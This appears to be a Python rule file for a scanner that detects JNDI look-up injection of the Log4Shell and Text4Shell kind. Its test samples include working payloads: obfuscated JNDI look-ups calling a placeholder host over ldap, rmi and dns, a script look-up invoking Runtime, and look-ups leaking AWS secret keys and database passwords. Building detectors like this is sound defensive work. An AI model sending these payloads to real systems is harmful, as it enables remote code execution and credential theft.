"""Look-ups that reach out (Log4Shell, Text4Shell) or leak: what `lexers.jndi` names."""

from __future__ import annotations

from .rule import Rule

RULES = (
    Rule(
        "LG-JNDI-001",
        "jndi",
        "JNDI look-up",
        cwe=917,
        capec=136,
        severity="critical",
        attacks=(
            "${jndi:ldap://e.example/a}",
            "${${lower:J}n${x:-d}i:rmi:/${::-/}e.example}",
            ("header", "${${env:NOPE:-j}ndi${k8s:q:-:}dns://e.example}"),
            "${jndi:iiop://",
        ),
        benign=(("body", "They sent `${jndi:ldap://e.example/a}` in the user agent header"), "${HOME}/jndi"),
    ),
    Rule(
        "LG-JNDI-002",
        "jndi",
        "look-up that runs or fetches",
        cwe=94,
        capec=242,
        severity="critical",
        attacks=(
            "${script:javascript:java.lang.Runtime.getRuntime()}",
            "${dns:address|e.example}",
            "${url:UTF-8:https://e.example}",
        ),
        benign=("${url}", "${script}", ("body", "run ${dns:-8.8.8.8}")),
    ),
    Rule(
        "LG-JNDI-003",
        "jndi",
        "look-up that leaks",
        cwe=200,
        capec=116,
        attacks=("${env:AWS_SECRET_ACCESS_KEY}", "${sys:db.password}"),
        benign=("${env}", ("body", '"user": "${env:BS_USER}"')),
    ),
    Rule(
        "LG-JNDI-101",
        "jndi",
        "look-up of the environment, or one that is shown",
        cwe=200,
        severity="low",
        confidence="medium",
        attacks=(("body", '"user": "${env:BS_USER}"'),),
        benign=("${USER:-me}",),
    ),
)
